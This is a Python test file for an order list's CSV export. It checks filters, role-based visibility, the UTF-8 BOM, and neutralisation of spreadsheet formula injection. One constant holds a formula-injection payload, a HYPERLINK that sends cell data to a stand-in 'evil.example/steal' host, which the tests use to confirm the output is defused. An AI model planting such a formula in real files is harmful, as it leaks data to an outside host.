"""CSV export of the order list: the list's filters and visibility, UTF-8 with BOM for Excel,
and every cell neutralised against formula injection."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from orders import services
from orders.actors import system_actor
from orders.csvsafe import iter_csv, neutralize_cell
from orders.models import Order
from tests.factories import PASSWORD, order_payload

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 135", "'+86 135"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (FORMULA, "'" + FORMULA),
        ("王小明", "王小明"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (Decimal("-5.00"), "-5.00"),
        (12, "12"),
        (True, "true"),
    ],
)
def test_neutralize_cell_prefixes_what_a_spreadsheet_would_run(value, expected):
    assert neutralize_cell(value) == expected


def test_iter_csv_starts_with_a_bom_and_quotes_cells():
    lines = list(iter_csv([["a,b", "=x"], ["新", None]]))
    assert lines == ["\ufeff", '"a,b",\'=x\r\n', "新,\r\n"]


def ingest(**overrides):
    result = services.order_ingest(payload=order_payload(**overrides), actor=system_actor("test"))
    assert result.status == "created", result.errors
    return Order.objects.get(pk=result.id)


def export(client, query: str = "") -> list[list[str]]:
    response = client.get("/orders/export.csv" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="orders-')
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body[1:])))


@pytest.fixture
def logged_in(client):
    def login(user):
        assert client.login(username=user.username, password=PASSWORD)
        client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
        return client

    return login


def test_export_neutralises_formula_cells_and_keeps_chinese(jd, supervisor, logged_in):
    # given an order whose note and customer name look like formulas
    ingest(external_id="JD-F1", note=FORMULA, customer={"name": "@王小明"})

    # when a supervisor exports the list
    rows = export(logged_in(supervisor))

    # then the cells come out as text a spreadsheet will not run
    header, row = rows[0], rows[1]
    assert len(rows) == 2
    assert row[header.index("Note")] == "'" + FORMULA
    assert row[header.index("Customer")] == "'@王小明"
    assert row[header.index("Phone")] == "'+8613510001000"
    assert row[header.index("City")] == "深圳市"
    assert row[header.index("Amount")] == "599.00"
    assert row[header.index("External id")] == "JD-F1"


def test_export_honours_the_list_filters(jd, tb, supervisor, logged_in):
    ingest(external_id="JD-A")
    ingest(external_id="TB-B", channel="taobao")
    ingest(external_id="JD-C", address="")  # flagged: address missing
    client = logged_in(supervisor)

    by_channel = export(client, "?channel=taobao")
    flagged = export(client, "?flagged=true&channel=jd")
    searched = export(client, "?q=JD-A")

    ext = lambda rows: sorted(r[rows[0].index("External id")] for r in rows[1:])  # noqa: E731
    assert ext(by_channel) == ["TB-B"]
    assert ext(flagged) == ["JD-C"]
    assert ext(searched) == ["JD-A"]


def test_agents_export_only_their_own_orders(jd, make_user, logged_in):
    agent = make_user("a1", "agent")
    mine = ingest(external_id="MINE")
    ingest(external_id="OTHER")
    Order.objects.filter(pk=mine.pk).update(owner=agent)

    rows = export(logged_in(agent))

    assert [r[rows[0].index("External id")] for r in rows[1:]] == ["MINE"]


def test_export_needs_a_login(client):
    response = client.get("/orders/export.csv")
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_export_streams_in_a_bounded_number_of_queries(
    jd, supervisor, logged_in, django_assert_max_num_queries
):
    for i in range(30):
        ingest(external_id=f"Q-{i}")
    client = logged_in(supervisor)

    with django_assert_max_num_queries(8):
        rows = export(client)

    assert len(rows) == 31


def test_the_order_list_links_to_the_export_with_its_filters(jd, supervisor, logged_in):
    page = logged_in(supervisor).get("/?channel=jd&flagged=true")
    assert b'href="/orders/export.csv?channel=jd&amp;flagged=true"' in page.content
